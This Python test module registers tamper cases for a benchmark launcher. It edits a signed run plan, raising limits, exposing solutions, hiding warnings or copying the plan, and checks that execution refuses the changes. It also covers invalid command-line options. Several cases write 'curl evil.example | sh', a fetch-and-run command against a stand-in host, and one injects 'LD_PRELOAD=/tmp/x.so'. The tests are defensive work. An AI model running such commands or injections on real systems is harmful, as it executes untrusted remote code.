"""Plans that `plan` did not write, and command-line options that cannot work (registered
into hostile_corpus.CASES)."""

from __future__ import annotations

import json
import shutil
from typing import Any

from hostile_corpus import Case, Env, case

# -- plans that `plan` did not write ---------------------------------------------------------

@case("plan-command-edited-new-identity-pasted")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][0].update(command="curl evil.example | sh"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-command-edited-old-identity")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][0].update(command="curl evil.example | sh"))
    # the refusal must not print the new identity for the operator to paste
    return Case(e.execute_args(), [str(e.plan)], secrets=[new.removeprefix("sha256:")])


@case("plan-command-and-cell-ids-edited")
def _(e: Env) -> Case:
    from ray_bench.plan.compile import arm_config
    from ray_bench.plan.identity import canonical_bytes, cell_id

    def change(d: dict[str, Any]) -> None:
        from ray_bench.models.plan import Plan

        d["arms"][0]["command"] = "curl evil.example | sh"
        plan = Plan.model_validate(d)
        sums = {i.name: i.sha256 for i in plan.inputs if i.kind == "agent"}
        configs = {a.name: canonical_bytes(arm_config(a, sums.get(a.name))) for a in plan.arms}
        checks = {t.id: t.checksum for t in plan.tasks}
        old_to_new = {}
        for c in d["cells"]:
            new = cell_id(c["task"], checks[c["task"]], configs[c["arm"]], c["rep"])
            old_to_new[c["id"]] = new
            c["id"] = new
        d["preflight"] = [old_to_new[p] for p in d["preflight"]]
    new = e.tamper(change)
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-arm-env-injected")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][1]["env"].update(LD_PRELOAD="/tmp/x.so"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-solution-exposed")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["arms"][1].update(expose_solution=False))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-account-limit-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["accounts"][0]["limits"].update(max_concurrent=500))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-route-redirected")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["accounts"][0]["route"].update(env={"DEMO_API_KEY": "RB_TEST_KEY_B"}))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-max-attempts-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(max_attempts=20))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-spend-limit-removed")
def _(e: Env) -> Case:
    e.edit_yaml(e.suite, lambda d: d.update(spend_limit_usd=5.0))
    from ray_bench.api import plan_run

    shutil.rmtree(e.runs / "ok")
    planned = plan_run(suite=e.suite, accounts=e.accounts, runs_dir=e.runs, run_id="ok")
    e.identity = planned.identity
    new = e.tamper(lambda d: d.update(spend_limit_usd=None))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-capacity-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["capacity"].update(effective=64))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-cell-duplicated")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["cells"].append(dict(d["cells"][0])))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-cell-rep-added")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["cells"].append({**d["cells"][0], "rep": 7}))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-cell-backend-changed")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["cells"][0].update(backend="docker"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-preflight-emptied-of-its-cells")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(preflight=["0" * 20]))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-task-input-dropped")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(inputs=[i for i in d["inputs"] if i["kind"] != "task"]))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-task-timeout-raised")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d["tasks"][0].update(agent_timeout_sec=86400.0))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-unpaired-flag-flipped")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(unpaired=True))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-warning-hidden")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(warnings=[]))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-run-id-changed")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(run_id="other"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("plan-receipt-edited")
def _(e: Env) -> Case:
    receipt = e.plan.parent / "receipt.md"
    receipt.write_text(receipt.read_text().replace("| baseline |", "| baseline (reviewed) |", 1))
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-receipt-missing")
def _(e: Env) -> Case:
    (e.plan.parent / "receipt.md").unlink()
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-not-canonical")
def _(e: Env) -> Case:
    e.plan.write_text(json.dumps(json.loads(e.plan.read_text()), indent=2))
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-duplicate-key")
def _(e: Env) -> Case:
    text = e.plan.read_text()
    e.plan.write_text(text.replace('{"accounts":', '{"max_attempts":20,"accounts":', 1))
    return Case(e.execute_args(), [str(e.plan)])


@case("plan-copied-to-another-run-root")
def _(e: Env) -> Case:
    shutil.copytree(e.runs / "ok", e.runs / "ok-copy")
    return Case(e.execute_args(plan=e.runs / "ok-copy" / "launch-plan.json"), [str(e.runs / "ok-copy")])


@case("plan-copied-to-another-runs-dir")
def _(e: Env) -> Case:
    shutil.copytree(e.runs / "ok", e.root / "elsewhere" / "ok")
    copy = e.root / "elsewhere" / "ok" / "launch-plan.json"
    return Case(e.execute_args(plan=copy), [str(copy)])


@case("plan-of-another-format-version")
def _(e: Env) -> Case:
    new = e.tamper(lambda d: d.update(format="ray-bench/plan/v0"))
    return Case(e.execute_args(confirm=new), [str(e.plan)])


@case("confirm-wrong-identity-prints-none")
def _(e: Env) -> Case:
    return Case(e.execute_args(confirm="sha256:" + "1" * 64), [str(e.plan)],
                secrets=[e.identity.removeprefix("sha256:")])


# -- command-line failures -------------------------------------------------------------------

@case("execute-address-unreachable")
def _(e: Env) -> Case:
    return Case(e.execute_args("--address", "127.0.0.1:1"), ["--address"])


@case("execute-address-not-an-address")
def _(e: Env) -> Case:
    return Case(e.execute_args("--address", "nowhere at all"), ["--address"])


@case("execute-metrics-port-out-of-range")
def _(e: Env) -> Case:
    args = e.execute_args("--metrics-port", "99999")
    args.remove("--no-metrics")
    return Case(args, ["--metrics-port"])


@case("execute-metrics-port-negative")
def _(e: Env) -> Case:
    args = e.execute_args("--metrics-port", "-5")
    args.remove("--no-metrics")
    return Case(args, ["--metrics-port"])


@case("execute-state-root-is-a-file")
def _(e: Env) -> Case:
    state = e.file("state-file", "not a directory")
    args = e.execute_args()
    args[args.index("--state-root") + 1] = str(state)
    return Case(args, ["--state-root"])


@case("plan-runs-dir-is-a-file")
def _(e: Env) -> Case:
    runs = e.file("runs-file", "x")
    args = e.plan_args()
    args[args.index("--runs-dir") + 1] = str(runs)
    return Case(args, ["--runs-dir"])


@case("plan-runs-dir-under-a-file")
def _(e: Env) -> Case:
    runs = e.file("runs-file", "x")
    args = e.plan_args()
    args[args.index("--runs-dir") + 1] = str(runs / "sub")
    return Case(args, ["--runs-dir"])


@case("report-of-a-run-never-executed")
def _(e: Env) -> Case:
    return Case(["report", str(e.runs / "ok")], [str(e.runs / "ok")])


@case("status-of-a-directory-that-is-no-run")
def _(e: Env) -> Case:
    (e.root / "nothing").mkdir()
    return Case(["status", str(e.root / "nothing")], [str(e.root / "nothing")])


@case("status-of-a-plan-that-is-garbage")
def _(e: Env) -> Case:
    e.plan.write_bytes(b"\x00\xff" * 100)
    return Case(["status", str(e.runs / "ok")], [str(e.plan)])


@case("audit-of-a-directory-that-is-no-run")
def _(e: Env) -> Case:
    (e.root / "nothing").mkdir()
    return Case(["audit", str(e.root / "nothing")], [str(e.root / "nothing")])
